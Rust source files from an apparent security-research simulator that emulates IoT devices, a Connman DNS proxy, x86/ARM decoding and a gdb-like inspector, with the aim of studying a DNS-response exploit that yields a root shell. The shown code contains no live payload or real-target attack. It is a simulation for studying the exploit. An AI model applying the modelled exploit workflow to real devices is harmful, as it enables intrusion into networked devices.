        assert_eq!(lossy.alive, lossy.lost);
    }
}
