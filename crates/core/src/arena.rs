//! Per-worker bump arenas for fleet-scale scratch state.
//!
//! A million-device campaign cannot afford a heap allocation per
//! device; it cannot even afford a `Vec` *resize* per batch once the
//! steady state is reached. [`Bump`] is the minimal discipline that
//! guarantees both: records are bump-appended during a batch, the whole
//! arena is [`reset`](Bump::reset) between batches, and capacity is
//! never returned to the allocator — after the first few batches the
//! high-water mark stabilizes and the append path is a bounds check and
//! a write.
//!
//! The arena is deliberately restricted to `Copy` records: per-device
//! fleet state (outcome class, cohort id, timing deltas, RNG draws) is
//! plain-old-data by design, so nothing ever needs dropping and `reset`
//! is a length store.

/// A typed bump arena over `Copy` records.
#[derive(Debug, Clone)]
pub struct Bump<T: Copy> {
    items: Vec<T>,
    high_water: usize,
}

impl<T: Copy> Bump<T> {
    /// An empty arena.
    pub fn new() -> Bump<T> {
        Bump {
            items: Vec::new(),
            high_water: 0,
        }
    }

    /// An arena pre-sized for `cap` records, so even the first batch
    /// stays allocation-free when its size is known up front.
    pub fn with_capacity(cap: usize) -> Bump<T> {
        Bump {
            items: Vec::with_capacity(cap),
            high_water: 0,
        }
    }

    /// Appends one record.
    pub fn push(&mut self, item: T) {
        self.items.push(item);
    }

    /// The records of the current batch, in push order.
    pub fn records(&self) -> &[T] {
        &self.items
    }

    /// Records pushed in the current batch.
    pub fn len(&self) -> usize {
        self.items.len()
    }

    /// Whether the current batch is empty.
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    /// Largest batch seen since construction — the arena's resident
    /// footprint is `high_water × size_of::<T>()`, independent of how
    /// many batches have passed through it.
    pub fn high_water(&self) -> usize {
        self.high_water
    }

    /// Ends the batch: drops every record (trivially — `T: Copy`) and
    /// keeps the capacity for the next one.
    pub fn reset(&mut self) {
        self.high_water = self.high_water.max(self.items.len());
        self.items.clear();
    }

    /// Moves the batch's records out as a `Vec`, ending the batch.
    /// Unlike [`reset`](Bump::reset) this *does* allocate (the caller
    /// keeps the records); it is the materialized-report escape hatch,
    /// not the steady-state path.
    pub fn drain_to_vec(&mut self) -> Vec<T> {
        self.high_water = self.high_water.max(self.items.len());
        let out = self.items.clone();
        self.items.clear();
        out
    }
}

impl<T: Copy> Default for Bump<T> {
    fn default() -> Self {
        Bump::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reset_keeps_capacity() {
        let mut a: Bump<u64> = Bump::new();
        for i in 0..1000 {
            a.push(i);
        }
        let cap = a.items.capacity();
        let ptr = a.items.as_ptr();
        a.reset();
        assert!(a.is_empty());
        for i in 0..1000 {
            a.push(i * 2);
        }
        assert_eq!(a.items.capacity(), cap, "no reallocation across batches");
        assert_eq!(a.items.as_ptr(), ptr, "same backing store");
        assert_eq!(a.high_water(), 1000);
    }

    #[test]
    fn records_keep_push_order() {
        let mut a = Bump::with_capacity(4);
        a.push(3u32);
        a.push(1);
        a.push(2);
        assert_eq!(a.records(), &[3, 1, 2]);
        assert_eq!(a.len(), 3);
    }
}
