//! A networked IoT device: firmware daemon + wireless station.

use std::fmt;
use std::net::IpAddr;

use cml_connman::{Daemon, ProxyOutcome, Resolution};
use cml_dns::{Name, RecordType};
use cml_firmware::{Firmware, Protections};
use cml_netsim::{HwAddr, RadioEnvironment, Ssid, Station};

/// What one name lookup on the device produced.
#[derive(Debug, Clone, PartialEq)]
pub enum LookupOutcome {
    /// Served from the proxy's cache.
    Cached(Vec<IpAddr>),
    /// Resolved over the network; carries the proxy's verdict on the
    /// response it received (which is where exploitation happens).
    Network(ProxyOutcome),
    /// No association / no DNS server.
    NoNetwork,
    /// The DNS server did not answer.
    NoResponse,
    /// The daemon was already dead.
    DaemonDown,
}

impl LookupOutcome {
    /// Whether this lookup compromised the device.
    pub fn compromised(&self) -> bool {
        matches!(self, LookupOutcome::Network(o) if o.is_root_shell())
    }
}

impl fmt::Display for LookupOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LookupOutcome::Cached(addrs) => write!(f, "cached {addrs:?}"),
            LookupOutcome::Network(o) => write!(f, "network: {o}"),
            LookupOutcome::NoNetwork => write!(f, "no network"),
            LookupOutcome::NoResponse => write!(f, "no response"),
            LookupOutcome::DaemonDown => write!(f, "daemon down"),
        }
    }
}

/// The victim device of §III-D: a Raspberry-Pi-like board whose only
/// network configuration is "DHCP with automatic DNS" and a preferred
/// SSID.
#[derive(Debug)]
pub struct IotDevice {
    daemon: Daemon,
    station: Station,
}

impl IotDevice {
    /// Boots the firmware and configures the wireless interface.
    pub fn boot(
        firmware: &Firmware,
        protections: Protections,
        seed: u64,
        mac: HwAddr,
        ssid: Ssid,
    ) -> Self {
        IotDevice {
            daemon: firmware.boot(protections, seed),
            station: Station::new(mac, ssid),
        }
    }

    /// Wraps an already-booted daemon (e.g. a [`BootForge`] fork) as a
    /// device with a fresh wireless interface.
    ///
    /// [`BootForge`]: cml_firmware::BootForge
    pub fn with_daemon(daemon: Daemon, mac: HwAddr, ssid: Ssid) -> Self {
        IotDevice {
            daemon,
            station: Station::new(mac, ssid),
        }
    }

    /// The embedded Connman daemon.
    pub fn daemon(&self) -> &Daemon {
        &self.daemon
    }

    /// The wireless interface.
    pub fn station(&self) -> &Station {
        &self.station
    }

    /// Scans and (re)associates; returns `true` when the association
    /// changed (e.g. lured onto a rogue AP).
    pub fn reconnect(&mut self, env: &mut RadioEnvironment) -> bool {
        self.station.rescan(env)
    }

    /// Whether the daemon still serves.
    pub fn is_alive(&self) -> bool {
        self.daemon.is_running()
    }

    /// Resolves `name` the way the device's applications do: cache
    /// first, then a proxied query to the DHCP-assigned DNS server.
    pub fn lookup(
        &mut self,
        env: &mut RadioEnvironment,
        name: &Name,
        rtype: RecordType,
    ) -> LookupOutcome {
        if !self.daemon.is_running() {
            return LookupOutcome::DaemonDown;
        }
        if self.station.association().is_none() {
            return LookupOutcome::NoNetwork;
        }
        match self.daemon.resolve(name, rtype) {
            Resolution::Cached(addrs) => LookupOutcome::Cached(addrs),
            Resolution::Query(query_bytes) => match self.station.query_dns(env, &query_bytes) {
                Some(response) => LookupOutcome::Network(self.daemon.deliver_response(&response)),
                None => LookupOutcome::NoResponse,
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_firmware::{Arch, FirmwareKind};
    use cml_netsim::{share, AccessPoint, ApConfig, DhcpConfig};
    use std::net::Ipv4Addr;

    fn home_env() -> RadioEnvironment {
        let mut env = RadioEnvironment::new();
        env.add_ap(AccessPoint::new(ApConfig {
            ssid: "HomeNet".into(),
            bssid: HwAddr::local(1),
            signal_dbm: -55,
            dhcp: DhcpConfig::new([192, 168, 1], Ipv4Addr::new(192, 168, 1, 53)),
        }));
        let mut benign = cml_exploit::MaliciousDnsServer::benign(Ipv4Addr::new(93, 184, 216, 34));
        env.register_service(
            Ipv4Addr::new(192, 168, 1, 53),
            share(move |p: &[u8]| benign.handle(p)),
        );
        env
    }

    #[test]
    fn device_resolves_over_benign_network() {
        let fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
        let mut env = home_env();
        let mut dev = IotDevice::boot(
            &fw,
            Protections::full(),
            77,
            HwAddr::local(9),
            "HomeNet".into(),
        );
        assert!(dev.reconnect(&mut env));
        let name = Name::parse("cloud.vendor.example").unwrap();
        let out = dev.lookup(&mut env, &name, RecordType::A);
        assert!(
            matches!(&out, LookupOutcome::Network(ProxyOutcome::Answered { .. })),
            "{out}"
        );
        // Second lookup: cache hit, no network traffic.
        let out = dev.lookup(&mut env, &name, RecordType::A);
        assert!(matches!(out, LookupOutcome::Cached(_)), "{out}");
    }

    #[test]
    fn disconnected_device_reports_no_network() {
        let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
        let mut env = RadioEnvironment::new();
        let mut dev = IotDevice::boot(
            &fw,
            Protections::none(),
            1,
            HwAddr::local(2),
            "Nowhere".into(),
        );
        dev.reconnect(&mut env);
        let name = Name::parse("a.b").unwrap();
        assert_eq!(
            dev.lookup(&mut env, &name, RecordType::A),
            LookupOutcome::NoNetwork
        );
    }
}
