//! Property tests over the two instruction sets: everything the
//! assemblers can emit, the decoders must round-trip; decoding arbitrary
//! bytes must be total (no panics) and report honest lengths.

use proptest::prelude::*;

use cml_vm::{arm, x86, X86Reg};

/// A recipe for one x86 instruction, generatable by proptest.
#[derive(Debug, Clone)]
enum XInsn {
    Nop,
    PushR(u8),
    PopR(u8),
    PushImm(u32),
    MovRImm(u8, u32),
    MovR8Imm(u8, u8),
    MovRR(u8, u8),
    XorRR(u8, u8),
    AndRR(u8, u8),
    OrRR(u8, u8),
    CmpRR(u8, u8),
    TestRR(u8, u8),
    ShlImm(u8, u8),
    ShrImm(u8, u8),
    Lea(u8, u8, i8),
    AddImm8(u8, i8),
    SubImm8(u8, i8),
    CmpImm8(u8, i8),
    IncR(u8),
    DecR(u8),
    Ret,
    RetImm16(u16),
    Leave,
    CallRel(i32),
    CallR(u8),
    JmpR(u8),
    JmpRel8(i8),
    Jz(i8),
    Jnz(i8),
    Int80,
    Hlt,
    MovMemR(u8, i8, u8),
    MovRMem(u8, u8, i8),
    MovRAbs(u8, u32),
    XchgEax(u8),
}

fn reg(bits: u8) -> X86Reg {
    X86Reg::from_bits(bits)
}

fn x_strategy() -> impl Strategy<Value = XInsn> {
    let r = 0u8..8;
    prop_oneof![
        Just(XInsn::Nop),
        r.clone().prop_map(XInsn::PushR),
        r.clone().prop_map(XInsn::PopR),
        any::<u32>().prop_map(XInsn::PushImm),
        (r.clone(), any::<u32>()).prop_map(|(a, b)| XInsn::MovRImm(a, b)),
        (r.clone(), any::<u8>()).prop_map(|(a, b)| XInsn::MovR8Imm(a, b)),
        (r.clone(), r.clone()).prop_map(|(a, b)| XInsn::MovRR(a, b)),
        (r.clone(), r.clone()).prop_map(|(a, b)| XInsn::XorRR(a, b)),
        (r.clone(), r.clone()).prop_map(|(a, b)| XInsn::AndRR(a, b)),
        (r.clone(), r.clone()).prop_map(|(a, b)| XInsn::OrRR(a, b)),
        (r.clone(), r.clone()).prop_map(|(a, b)| XInsn::CmpRR(a, b)),
        (r.clone(), r.clone()).prop_map(|(a, b)| XInsn::TestRR(a, b)),
        (r.clone(), 0u8..32).prop_map(|(a, b)| XInsn::ShlImm(a, b)),
        (r.clone(), 0u8..32).prop_map(|(a, b)| XInsn::ShrImm(a, b)),
        (r.clone(), r.clone(), any::<i8>()).prop_map(|(a, b, c)| XInsn::Lea(a, b, c)),
        (r.clone(), any::<i8>()).prop_map(|(a, b)| XInsn::AddImm8(a, b)),
        (r.clone(), any::<i8>()).prop_map(|(a, b)| XInsn::SubImm8(a, b)),
        (r.clone(), any::<i8>()).prop_map(|(a, b)| XInsn::CmpImm8(a, b)),
        r.clone().prop_map(XInsn::IncR),
        r.clone().prop_map(XInsn::DecR),
        Just(XInsn::Ret),
        any::<u16>().prop_map(XInsn::RetImm16),
        Just(XInsn::Leave),
        any::<i32>().prop_map(XInsn::CallRel),
        r.clone().prop_map(XInsn::CallR),
        r.clone().prop_map(XInsn::JmpR),
        any::<i8>().prop_map(XInsn::JmpRel8),
        any::<i8>().prop_map(XInsn::Jz),
        any::<i8>().prop_map(XInsn::Jnz),
        Just(XInsn::Int80),
        Just(XInsn::Hlt),
        (r.clone(), any::<i8>(), r.clone()).prop_map(|(a, b, c)| XInsn::MovMemR(a, b, c)),
        (r.clone(), r.clone(), any::<i8>()).prop_map(|(a, b, c)| XInsn::MovRMem(a, b, c)),
        (r.clone(), any::<u32>()).prop_map(|(a, b)| XInsn::MovRAbs(a, b)),
        (1u8..8).prop_map(XInsn::XchgEax),
    ]
}

fn assemble_x86(insns: &[XInsn]) -> Vec<u8> {
    let mut a = x86::Asm::new();
    for i in insns {
        a = match *i {
            XInsn::Nop => a.nop(),
            XInsn::PushR(r0) => a.push_r(reg(r0)),
            XInsn::PopR(r0) => a.pop_r(reg(r0)),
            XInsn::PushImm(v) => a.push_imm(v),
            XInsn::MovRImm(r0, v) => a.mov_r_imm(reg(r0), v),
            XInsn::MovR8Imm(r0, v) => a.mov_r8_imm(reg(r0), v),
            XInsn::MovRR(d, s) => a.mov_rr(reg(d), reg(s)),
            XInsn::XorRR(d, s) => a.xor_rr(reg(d), reg(s)),
            XInsn::AndRR(d, s) => a.and_rr(reg(d), reg(s)),
            XInsn::OrRR(d, s) => a.or_rr(reg(d), reg(s)),
            XInsn::CmpRR(d, s) => a.cmp_rr(reg(d), reg(s)),
            XInsn::TestRR(d, s) => a.test_rr(reg(d), reg(s)),
            XInsn::ShlImm(r0, v) => a.shl_r_imm8(reg(r0), v),
            XInsn::ShrImm(r0, v) => a.shr_r_imm8(reg(r0), v),
            XInsn::Lea(d, b, disp) => a.lea(reg(d), reg(b), disp),
            XInsn::AddImm8(r0, v) => a.add_r_imm8(reg(r0), v),
            XInsn::SubImm8(r0, v) => a.sub_r_imm8(reg(r0), v),
            XInsn::CmpImm8(r0, v) => a.cmp_r_imm8(reg(r0), v),
            XInsn::IncR(r0) => a.inc_r(reg(r0)),
            XInsn::DecR(r0) => a.dec_r(reg(r0)),
            XInsn::Ret => a.ret(),
            XInsn::RetImm16(v) => a.ret_imm16(v),
            XInsn::Leave => a.leave(),
            XInsn::CallRel(v) => a.call_rel32(v),
            XInsn::CallR(r0) => a.call_r(reg(r0)),
            XInsn::JmpR(r0) => a.jmp_r(reg(r0)),
            XInsn::JmpRel8(v) => a.jmp_rel8(v),
            XInsn::Jz(v) => a.jz_rel8(v),
            XInsn::Jnz(v) => a.jnz_rel8(v),
            XInsn::Int80 => a.int80(),
            XInsn::Hlt => a.hlt(),
            XInsn::MovMemR(b, disp, s) => a.mov_mem_r(reg(b), disp, reg(s)),
            XInsn::MovRMem(d, b, disp) => a.mov_r_mem(reg(d), reg(b), disp),
            XInsn::MovRAbs(d, addr) => a.mov_r_abs(reg(d), addr),
            XInsn::XchgEax(r0) => a.xchg_eax_r(reg(r0)),
        };
    }
    a.finish()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Assembled x86 streams decode instruction-by-instruction, consuming
    /// every byte exactly.
    #[test]
    fn x86_streams_roundtrip(insns in proptest::collection::vec(x_strategy(), 1..24)) {
        let bytes = assemble_x86(&insns);
        let mut pos = 0usize;
        let mut count = 0usize;
        while pos < bytes.len() {
            let (_, len) = x86::decode(&bytes[pos..])
                .unwrap_or_else(|e| panic!("{e} at {pos} in {bytes:02x?}"));
            prop_assert!(len > 0);
            pos += len;
            count += 1;
        }
        prop_assert_eq!(pos, bytes.len());
        prop_assert_eq!(count, insns.len());
    }

    /// x86 decode is total: arbitrary bytes either decode with an honest
    /// length or produce a typed error — never a panic, never a length
    /// beyond the input.
    #[test]
    fn x86_decode_total(bytes in proptest::collection::vec(any::<u8>(), 0..32)) {
        if let Ok((_, len)) = x86::decode(&bytes) { prop_assert!(len > 0 && len <= bytes.len()) }
    }

    /// ARM decode is total as well.
    #[test]
    fn arm_decode_total(word in any::<u32>()) {
        if let Ok((_, len)) = arm::decode(&word.to_le_bytes()) { prop_assert_eq!(len, 4) }
    }
}

/// A recipe for one A32 instruction.
#[derive(Debug, Clone)]
enum AInsn {
    MovImm(u8, u8),
    MvnImm(u8, u8),
    MovReg(u8, u8),
    AddImm(u8, u8, u8),
    SubImm(u8, u8, u8),
    OrrImm(u8, u8, u8),
    AndImm(u8, u8, u8),
    EorImm(u8, u8, u8),
    Lsl(u8, u8, u8),
    CmpImm(u8, u8),
    Ldr(u8, u8, i16),
    Str(u8, u8, i16),
    Ldrb(u8, u8, i16),
    Strb(u8, u8, i16),
    Push(u16),
    Pop(u16),
    Bx(u8),
    Blx(u8),
    B(i16),
    Bl(i16),
    Beq(i16),
    Bne(i16),
    Svc,
}

fn a_strategy() -> impl Strategy<Value = AInsn> {
    let r = 0u8..16;
    let rlo = 0u8..15; // exclude pc where it would be a branch
    let off = -1024i16..1024;
    prop_oneof![
        (rlo.clone(), any::<u8>()).prop_map(|(a, b)| AInsn::MovImm(a, b)),
        (rlo.clone(), any::<u8>()).prop_map(|(a, b)| AInsn::MvnImm(a, b)),
        (rlo.clone(), r.clone()).prop_map(|(a, b)| AInsn::MovReg(a, b)),
        (rlo.clone(), r.clone(), any::<u8>()).prop_map(|(a, b, c)| AInsn::AddImm(a, b, c)),
        (rlo.clone(), r.clone(), any::<u8>()).prop_map(|(a, b, c)| AInsn::SubImm(a, b, c)),
        (rlo.clone(), r.clone(), any::<u8>()).prop_map(|(a, b, c)| AInsn::OrrImm(a, b, c)),
        (rlo.clone(), r.clone(), any::<u8>()).prop_map(|(a, b, c)| AInsn::AndImm(a, b, c)),
        (rlo.clone(), r.clone(), any::<u8>()).prop_map(|(a, b, c)| AInsn::EorImm(a, b, c)),
        (rlo.clone(), r.clone(), 1u8..32).prop_map(|(a, b, c)| AInsn::Lsl(a, b, c)),
        (r.clone(), any::<u8>()).prop_map(|(a, b)| AInsn::CmpImm(a, b)),
        (rlo.clone(), r.clone(), off.clone()).prop_map(|(a, b, c)| AInsn::Ldr(a, b, c)),
        (rlo.clone(), r.clone(), off.clone()).prop_map(|(a, b, c)| AInsn::Str(a, b, c)),
        (rlo.clone(), r.clone(), off.clone()).prop_map(|(a, b, c)| AInsn::Ldrb(a, b, c)),
        (rlo.clone(), r.clone(), off.clone()).prop_map(|(a, b, c)| AInsn::Strb(a, b, c)),
        (1u16..0x8000).prop_map(AInsn::Push),
        (1u16..0xFFFF).prop_map(AInsn::Pop),
        r.clone().prop_map(AInsn::Bx),
        r.clone().prop_map(AInsn::Blx),
        off.clone().prop_map(AInsn::B),
        off.clone().prop_map(AInsn::Bl),
        off.clone().prop_map(AInsn::Beq),
        off.clone().prop_map(AInsn::Bne),
        Just(AInsn::Svc),
    ]
}

fn list_from(bits: u16) -> Vec<u8> {
    (0..16).filter(|i| bits & (1 << i) != 0).collect()
}

fn assemble_arm(insns: &[AInsn]) -> Vec<u8> {
    let mut a = arm::Asm::new();
    for i in insns {
        a = match *i {
            AInsn::MovImm(rd, v) => a.mov_imm(rd, v as u32),
            AInsn::MvnImm(rd, v) => a.mvn_imm(rd, v as u32),
            AInsn::MovReg(rd, rm) => a.mov_reg(rd, rm),
            AInsn::AddImm(rd, rn, v) => a.add_imm(rd, rn, v as u32),
            AInsn::SubImm(rd, rn, v) => a.sub_imm(rd, rn, v as u32),
            AInsn::OrrImm(rd, rn, v) => a.orr_imm(rd, rn, v as u32),
            AInsn::AndImm(rd, rn, v) => a.and_imm(rd, rn, v as u32),
            AInsn::EorImm(rd, rn, v) => a.eor_imm(rd, rn, v as u32),
            AInsn::Lsl(rd, rm, s) => a.lsl_imm(rd, rm, s),
            AInsn::CmpImm(rn, v) => a.cmp_imm(rn, v as u32),
            AInsn::Ldr(rd, rn, o) => a.ldr(rd, rn, o as i32),
            AInsn::Str(rd, rn, o) => a.str(rd, rn, o as i32),
            AInsn::Ldrb(rd, rn, o) => a.ldrb(rd, rn, o as i32),
            AInsn::Strb(rd, rn, o) => a.strb(rd, rn, o as i32),
            AInsn::Push(bits) => a.push(&list_from(bits)),
            AInsn::Pop(bits) => a.pop(&list_from(bits)),
            AInsn::Bx(rm) => a.bx(rm),
            AInsn::Blx(rm) => a.blx(rm),
            AInsn::B(o) => a.b(o as i32 * 4),
            AInsn::Bl(o) => a.bl(o as i32 * 4),
            AInsn::Beq(o) => a.beq(o as i32 * 4),
            AInsn::Bne(o) => a.bne(o as i32 * 4),
            AInsn::Svc => a.svc0(),
        };
    }
    a.finish()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Assembled A32 streams decode word-by-word.
    #[test]
    fn arm_streams_roundtrip(insns in proptest::collection::vec(a_strategy(), 1..24)) {
        let bytes = assemble_arm(&insns);
        prop_assert_eq!(bytes.len(), insns.len() * 4);
        for (k, chunk) in bytes.chunks(4).enumerate() {
            arm::decode(chunk).unwrap_or_else(|e| panic!("insn {k}: {e}"));
        }
    }
}

/// Machine determinism: the same program produces bit-identical outcomes
/// and event logs on repeated runs.
#[test]
fn execution_is_deterministic() {
    use cml_image::{Arch, Perms, SectionKind};
    use cml_vm::Machine;

    let code = assemble_x86(&[
        XInsn::MovRImm(1, 5),
        XInsn::PushR(1),
        XInsn::PopR(2),
        XInsn::XorRR(0, 0),
        XInsn::MovR8Imm(0, 1),
        XInsn::Int80,
    ]);
    let run = || {
        let mut m = Machine::new(Arch::X86);
        m.mem_mut()
            .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
        m.mem_mut()
            .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
        m.mem_mut().poke(0x1000, &code).unwrap();
        m.regs_mut().set_pc(0x1000);
        m.regs_mut().set_sp(0x8800);
        let out = m.run(100);
        (out, m.events().to_vec())
    };
    assert_eq!(run(), run());
}
