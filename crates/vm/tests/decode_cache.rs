//! The predecoded-instruction cache must never serve stale decodes:
//! self-modifying shellcode, permission flips and page-straddling
//! instructions all have to observe the current bytes.

use cml_image::{Arch, Perms, SectionKind};
use cml_vm::{x86, Fault, Machine, X86Reg};

fn x86_machine(code: &[u8], perms: Perms) -> Machine {
    let mut m = Machine::new(Arch::X86);
    m.mem_mut()
        .map(".text", Some(SectionKind::Text), 0x1000, 0x2000, perms);
    m.mem_mut()
        .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
    m.mem_mut().poke(0x1000, code).unwrap();
    m.regs_mut().set_pc(0x1000);
    m.regs_mut().set_sp(0x8800);
    m
}

#[test]
fn repeat_execution_hits_the_cache() {
    let code = x86::Asm::new().mov_r_imm(X86Reg::Eax, 1).finish();
    let mut m = x86_machine(&code, Perms::RX);
    for _ in 0..10 {
        m.regs_mut().set_pc(0x1000);
        m.step().unwrap();
    }
    let (hits, misses) = m.decode_cache_stats();
    assert_eq!(misses, 1, "only the first visit decodes");
    assert_eq!(hits, 9, "every revisit is served from the cache");
}

#[test]
fn self_modifying_code_invalidates_cached_decode() {
    // mov eax, 1 on an RWX page (the code-injection scenario).
    let code = x86::Asm::new().mov_r_imm(X86Reg::Eax, 1).finish();
    let mut m = x86_machine(&code, Perms::RWX);
    m.step().unwrap();
    assert_eq!(m.regs().x86().get(X86Reg::Eax), 1);

    // The shellcode patches its own immediate: mov eax, 1 -> mov eax, 2.
    // A stale cache would keep executing the old constant.
    m.regs_mut().set_pc(0x1000);
    m.step().unwrap(); // warm the cache a second time
    m.mem_mut().write_u8(0x1001, 2, 0).unwrap();
    m.regs_mut().set_pc(0x1000);
    m.step().unwrap();
    assert_eq!(
        m.regs().x86().get(X86Reg::Eax),
        2,
        "patched byte must be decoded"
    );
}

#[test]
fn poke_invalidates_cached_decode() {
    let code = x86::Asm::new().mov_r_imm(X86Reg::Eax, 7).finish();
    let mut m = x86_machine(&code, Perms::RX);
    m.step().unwrap();
    assert_eq!(m.regs().x86().get(X86Reg::Eax), 7);

    // Debugger/loader-style poke ignores W but must still invalidate.
    let patched = x86::Asm::new().mov_r_imm(X86Reg::Eax, 0xBEEF).finish();
    m.mem_mut().poke(0x1000, &patched).unwrap();
    m.regs_mut().set_pc(0x1000);
    m.step().unwrap();
    assert_eq!(m.regs().x86().get(X86Reg::Eax), 0xBEEF);
}

#[test]
fn permission_flip_drops_cached_page() {
    let code = x86::Asm::new().nop().finish();
    let mut m = x86_machine(&code, Perms::RX);
    m.step().unwrap(); // cache the nop
    assert!(m.mem_mut().set_perms(0x1000, Perms::RW));
    m.regs_mut().set_pc(0x1000);
    assert!(
        matches!(m.step(), Err(Fault::NxViolation { pc: 0x1000, .. })),
        "a cached decode must not bypass a revoked X bit"
    );
}

#[test]
fn page_straddling_instruction_sees_writes_to_second_page() {
    // Place a 5-byte mov eax,imm32 so its immediate crosses the 4 KiB
    // page boundary at 0x2000 (region is 0x1000..0x3000).
    let code = x86::Asm::new().mov_r_imm(X86Reg::Eax, 0x11111111).finish();
    assert_eq!(code.len(), 5);
    let mut m = x86_machine(&[], Perms::RWX);
    m.mem_mut().poke(0x1FFE, &code).unwrap();
    m.regs_mut().set_pc(0x1FFE);
    m.step().unwrap();
    assert_eq!(m.regs().x86().get(X86Reg::Eax), 0x11111111);

    // Patch an immediate byte that lives on the *second* page.
    m.mem_mut().write_u8(0x2001, 0x22, 0).unwrap();
    m.regs_mut().set_pc(0x1FFE);
    m.step().unwrap();
    assert_ne!(m.regs().x86().get(X86Reg::Eax), 0x11111111);
}

#[test]
fn arm_self_modifying_word_is_not_stale() {
    use cml_vm::{arm, ArmReg};
    let mut m = Machine::new(Arch::Armv7);
    m.mem_mut().map(
        ".text",
        Some(SectionKind::Text),
        0x1_0000,
        0x1000,
        Perms::RWX,
    );
    m.mem_mut().map(
        "stack",
        Some(SectionKind::Stack),
        0x7e00_0000,
        0x1000,
        Perms::RW,
    );
    let code = arm::Asm::new().mov_imm(0, 5).finish();
    m.mem_mut().poke(0x1_0000, &code).unwrap();
    m.regs_mut().set_pc(0x1_0000);
    m.regs_mut().set_sp(0x7e00_0800);
    m.step().unwrap();
    assert_eq!(m.regs().arm().get(ArmReg(0)), 5);

    let patched = arm::Asm::new().mov_imm(0, 9).finish();
    for (i, b) in patched.iter().enumerate() {
        m.mem_mut().write_u8(0x1_0000 + i as u32, *b, 0).unwrap();
    }
    m.regs_mut().set_pc(0x1_0000);
    m.step().unwrap();
    assert_eq!(
        m.regs().arm().get(ArmReg(0)),
        9,
        "patched word must be decoded"
    );
}

#[test]
fn disabled_cache_matches_enabled_results() {
    let code = x86::Asm::new()
        .mov_r_imm(X86Reg::Eax, 3)
        .add_r_imm8(X86Reg::Eax, 4)
        .finish();
    let run = |cache: bool| {
        let mut m = x86_machine(&code, Perms::RX);
        m.set_decode_cache_enabled(cache);
        for _ in 0..2 {
            m.step().unwrap();
        }
        m.regs().x86().get(X86Reg::Eax)
    };
    assert_eq!(run(true), run(false));
}
