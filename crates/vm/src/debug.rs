//! Post-mortem and live inspection — the simulation's `gdb`.
//!
//! The paper's exploit-construction workflow is: run the target under
//! gdb, examine the `parse_response` frame, find libc/symbol addresses,
//! crash it with a pattern and read the faulting pc. [`Inspector`]
//! provides those operations against a [`Machine`], and
//! [`FaultReport`] packages what a crash log would show.

use std::fmt;

use cml_image::Addr;

use crate::loader::LoadMap;
use crate::machine::Machine;
use crate::{arm, riscv, x86, Fault};

/// A read-only view over a machine for address discovery and frame
/// inspection.
#[derive(Debug)]
pub struct Inspector<'m> {
    machine: &'m Machine,
    map: Option<&'m LoadMap>,
}

impl<'m> Inspector<'m> {
    /// Attaches to a machine.
    pub fn new(machine: &'m Machine) -> Self {
        Inspector { machine, map: None }
    }

    /// Attaches with a load map for symbol resolution.
    pub fn with_map(machine: &'m Machine, map: &'m LoadMap) -> Self {
        Inspector {
            machine,
            map: Some(map),
        }
    }

    /// Resolves a symbol to its runtime address (requires a load map).
    pub fn symbol(&self, name: &str) -> Option<Addr> {
        self.map.and_then(|m| m.symbol(name))
    }

    /// Reads `count` stack words starting at the stack pointer.
    pub fn stack_words(&self, count: usize) -> Vec<(Addr, Option<u32>)> {
        let sp = self.machine.regs().sp();
        (0..count)
            .map(|i| {
                let addr = sp.wrapping_add(4 * i as u32);
                (addr, self.machine.mem().read_u32(addr, 0).ok())
            })
            .collect()
    }

    /// Reads a word anywhere (ignoring nothing: permissions still apply,
    /// as a debugger of a live process sees what the process could read).
    pub fn word(&self, addr: Addr) -> Option<u32> {
        self.machine.mem().read_u32(addr, 0).ok()
    }

    /// Searches all mapped regions for a byte pattern, returning
    /// addresses (like gdb's `find`).
    pub fn find(&self, needle: &[u8]) -> Vec<Addr> {
        let mut hits = Vec::new();
        if needle.is_empty() {
            return hits;
        }
        for r in self.machine.mem().regions() {
            let data = r.data();
            if data.len() < needle.len() {
                continue;
            }
            for i in 0..=data.len() - needle.len() {
                if &data[i..i + needle.len()] == needle {
                    hits.push(r.base() + i as Addr);
                }
            }
        }
        hits
    }

    /// Disassembles up to `count` instructions at `addr` into text lines
    /// (`x/i` analogue). Stops at the first undecodable word.
    pub fn disassemble(&self, addr: Addr, count: usize) -> Vec<String> {
        let mut lines = Vec::new();
        let mut pc = addr;
        for _ in 0..count {
            let window = match self.machine.mem().read_bytes(pc, 16, 0) {
                Ok(w) => w,
                Err(_) => match self.machine.mem().read_bytes(pc, 4, 0) {
                    Ok(w) => w,
                    Err(_) => break,
                },
            };
            let (text, len) = match self.machine.arch() {
                cml_image::Arch::X86 => match x86::decode(&window) {
                    Ok((i, n)) => (i.to_string(), n),
                    Err(_) => break,
                },
                cml_image::Arch::Armv7 => match arm::decode(&window) {
                    Ok((i, n)) => (i.to_string(), n),
                    Err(_) => break,
                },
                cml_image::Arch::Riscv => match riscv::decode(&window) {
                    Ok((i, n)) => (i.to_string(), n),
                    Err(_) => break,
                },
            };
            lines.push(format!("{pc:#010x}: {text}"));
            pc = pc.wrapping_add(len as u32);
        }
        lines
    }

    /// Hexdump of `len` bytes at `addr` (`x/` analogue); unreadable
    /// bytes render as `??`.
    pub fn hexdump(&self, addr: Addr, len: usize) -> String {
        let mut out = String::new();
        for row in 0..len.div_ceil(16) {
            let base = addr.wrapping_add((row * 16) as u32);
            out.push_str(&format!("{base:#010x}: "));
            let mut ascii = String::new();
            for i in 0..16.min(len - row * 16) {
                match self.machine.mem().read_u8(base.wrapping_add(i as u32), 0) {
                    Ok(b) => {
                        out.push_str(&format!("{b:02x} "));
                        ascii.push(if b.is_ascii_graphic() { b as char } else { '.' });
                    }
                    Err(_) => {
                        out.push_str("?? ");
                        ascii.push('?');
                    }
                }
            }
            out.push_str(&format!(" |{ascii}|\n"));
        }
        out
    }

